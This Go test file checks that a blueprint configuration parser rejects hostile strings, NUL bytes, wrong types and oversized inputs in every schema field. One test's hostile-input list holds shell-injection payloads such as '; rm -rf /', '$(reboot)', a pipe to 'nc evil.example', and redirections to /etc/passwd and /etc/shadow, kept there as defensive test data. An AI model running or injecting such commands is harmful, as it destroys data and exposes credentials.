package blueprint

import (
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/BurntSushi/toml"
)

// leaf is one field of the blueprint schema that holds a value.
type leaf struct {
	// segments lead to the field; "[]" steps into the first element of a list.
	segments []string
	typ      reflect.Type
}

// path is the field path a problem with this leaf must carry.
func (l leaf) path() string {
	p := ""
	for _, s := range l.segments {
		if s == "[]" {
			p += "[0]"
		} else {
			p = fieldPath(p, s)
		}
	}
	if l.typ.Kind() == reflect.Slice {
		p += "[0]"
	}
	return p
}

// schemaLeaves lists every leaf field of t, so that the hostile-input tests
// cover fields added later without being told.
func schemaLeaves(t reflect.Type, prefix []string) []leaf {
	var out []leaf
	for i := range t.NumField() {
		f := t.Field(i)
		segs := append(append([]string{}, prefix...), fieldName(f))
		ft := f.Type
		if ft.Kind() == reflect.Pointer {
			ft = ft.Elem()
		}
		switch {
		case ft == reflect.TypeFor[Size]() || ft == reflect.TypeFor[Owner]():
			out = append(out, leaf{segs, ft})
		case ft.Kind() == reflect.Struct:
			out = append(out, schemaLeaves(ft, segs)...)
		case ft.Kind() == reflect.Slice && ft.Elem().Kind() == reflect.Struct:
			out = append(out, schemaLeaves(ft.Elem(), append(segs, "[]"))...)
		default:
			out = append(out, leaf{segs, ft})
		}
	}
	return out
}

// docWith builds a generic document holding value at the leaf, plus what
// the leaf needs around it to be validated at all.
func docWith(l leaf, value any) map[string]any {
	doc := map[string]any{"name": "test"}
	cur := doc
	for i, s := range l.segments {
		if s == "[]" {
			continue
		}
		last := i == len(l.segments)-1
		switch {
		case last:
			cur[s] = value
		case l.segments[i+1] == "[]":
			next := map[string]any{}
			if s == "partitions" && strings.Contains(l.path(), "logical_volumes") {
				next["type"] = "lvm"
			}
			cur[s] = []any{next}
			cur = next
		default:
			next := map[string]any{}
			cur[s] = next
			cur = next
		}
	}
	return doc
}

// encodeDoc writes a generic document in a format.
func encodeDoc(t *testing.T, doc map[string]any, format Format) string {
	t.Helper()
	var data []byte
	var err error
	if format == FormatJSON {
		data, err = json.Marshal(doc)
	} else {
		data, err = toml.Marshal(doc)
	}
	if err != nil {
		t.Fatalf("encoding the test document: %v", err)
	}
	return string(data)
}

// freeText are the fields whose content is free text by nature: they are
// never interpreted by a shell or as a path, so shell characters are valid
// in them (control characters and NUL bytes are still checked).
var freeText = map[string]bool{
	"description":                         true,
	"customizations.user[0].description":  true,
	"customizations.user[0].password":     true,
	"customizations.files[0].data":        true,
	"customizations.repositories[0].name": true,
	// A script: it is run as it is written, in the image, at first boot.
	"customizations.firstboot.scripts[0].contents": true,
}

// pathLike are the fields where a relative or unclean path is a valid value
// ("init=../x" is a kernel argument like any other); shell characters are
// still rejected there.
var pathLike = map[string]bool{
	"customizations.kernel.append": true,
}

func TestHostileStringsAreRejectedWithTheirPath(t *testing.T) {
	t.Parallel()
	hostile := []string{
		"; rm -rf /", "$(reboot)", "`reboot`", "a | nc evil.example 1", "a && b", "x > /etc/passwd",
		"x < /etc/shadow", "/etc/../etc/passwd", "../x", "a\nb", "' OR '1'='1", `"quoted"`, "${IFS}", "\\x",
		strings.Repeat("A", 70000),
	}
	leaves := schemaLeaves(reflect.TypeFor[Blueprint](), nil)
	if len(leaves) < 60 {
		t.Fatalf("found %d schema leaves; the walk is broken", len(leaves))
	}
	for _, l := range leaves {
		if l.typ.Kind() != reflect.String && l.typ != reflect.TypeFor[Size]() && l.typ != reflect.TypeFor[Owner]() &&
			!(l.typ.Kind() == reflect.Slice && l.typ.Elem().Kind() == reflect.String) {
			continue
		}
		t.Run(l.path(), func(t *testing.T) {
			t.Parallel()
			for _, h := range hostile {
				var value any = h
				if l.typ.Kind() == reflect.Slice {
					value = []any{h}
				}
				for _, format := range []Format{FormatJSON, FormatTOML} {
					doc := encodeDoc(t, docWith(l, value), format)
					_, err := ParseWithOptions([]byte(doc), format, ParseOptions{Rand: zeroReader{}})
					if freeText[l.path()] || (pathLike[l.path()] && !strings.ContainsAny(h, ";$`|&<>\n'\"\\") && len(h) < 100) {
						continue // accepted or not, it must only not panic
					}
					errs, _ := err.(Errors)
					if !hasProblem(errs, l.path(), "") {
						t.Fatalf("%v value %q: want a problem at %s, have: %v", format, quote(h), l.path(), err)
					}
				}
			}
		})
	}
}

func TestNULBytesAreRejectedEverywhere(t *testing.T) {
	t.Parallel()
	for _, l := range schemaLeaves(reflect.TypeFor[Blueprint](), nil) {
		if l.typ.Kind() != reflect.String && l.typ != reflect.TypeFor[Owner]() && l.typ != reflect.TypeFor[Size]() &&
			!(l.typ.Kind() == reflect.Slice && l.typ.Elem().Kind() == reflect.String) {
			continue
		}
		t.Run(l.path(), func(t *testing.T) {
			t.Parallel()
			var value any = "a\x00b"
			if l.typ.Kind() == reflect.Slice {
				value = []any{"a\x00b"}
			}
			errs := problemsOf(t, encodeDoc(t, docWith(l, value), FormatJSON), FormatJSON)
			if !hasProblem(errs, l.path(), "NUL byte") {
				t.Fatalf("want a NUL problem at %s, have:\n%v", l.path(), errs)
			}
		})
	}
}

func TestWrongTypesAreRejectedEverywhere(t *testing.T) {
	t.Parallel()
	for _, l := range schemaLeaves(reflect.TypeFor[Blueprint](), nil) {
		t.Run(l.path(), func(t *testing.T) {
			t.Parallel()
			var wrong any
			switch l.typ.Kind() {
			case reflect.String, reflect.Slice:
				wrong = map[string]any{"x": 1}
			default: // bool, int, Size, Owner
				wrong = []any{true}
			}
			path := l.path()
			if l.typ.Kind() == reflect.Slice {
				path = strings.TrimSuffix(path, "[0]")
			}
			for _, format := range []Format{FormatJSON, FormatTOML} {
				errs := problemsOf(t, encodeDoc(t, docWith(l, wrong), format), format)
				if !hasProblem(errs, path, "expected") {
					t.Fatalf("%v: want a type problem at %s, have:\n%v", format, path, errs)
				}
			}
		})
	}
}

func manyKeys(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "k%d = 1\n", i)
	}
	return b.String()
}

func TestHugeInputs(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, doc, path, want string
		format                Format
	}{
		{"huge integer TOML", "name = \"a\"\n[[customizations.user]]\nname = \"u\"\nuid = 99999999999999999999", "", "not valid TOML", FormatTOML},
		{"huge integer JSON", `{"name":"a","customizations":{"user":[{"name":"u","uid":99999999999999999999}]}}`, "customizations.user[0].uid", "out of range", FormatJSON},
		{"huge size", `{"name":"a","customizations":{"filesystem":[{"mountpoint":"/","minsize":9223372036854775807}]}}`, "customizations.filesystem[0].minsize", "larger than the limit", FormatJSON},
		{"huge name", `{"name":"` + strings.Repeat("a", 1<<20) + `"}`, "name", "the limit is 100", FormatJSON},
		{"many list items", `{"name":"a","customizations":{"timezone":{"ntpservers":[` + strings.Repeat(`"a",`, 100000) + `"a"]}}}`, "customizations.timezone.ntpservers", "limit", FormatJSON},
		{"many keys", `{"name":"a",` + strings.Repeat(`"k":1,`, 10) + `"z":1}`, "", "given twice", FormatJSON},
		{"long dotted key", "name = \"a\"\n" + strings.Repeat("a.", 100000) + "b = 1", "", "nest more than", FormatTOML},
		{"long dotted table header", "name = \"a\"\n[" + strings.Repeat("a.", 100000) + "b]", "", "nest more than", FormatTOML},
		{"long quoted dotted key", "name = \"a\"\n" + strings.Repeat(`"a".`, 100000) + "b = 1", "", "nest more than", FormatTOML},
		{"many distinct keys", "name = \"a\"\n" + manyKeys(200000), "", "more problems", FormatTOML},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			errs := problemsOf(t, tc.doc, tc.format)
			found := false
			for _, p := range errs {
				if (tc.path == "" || p.Path == tc.path) && strings.Contains(p.Message, tc.want) {
					found = true
				}
			}
			if !found {
				t.Fatalf("want a problem at %q containing %q, have:\n%.2000v", tc.path, tc.want, errs)
			}
		})
	}
}
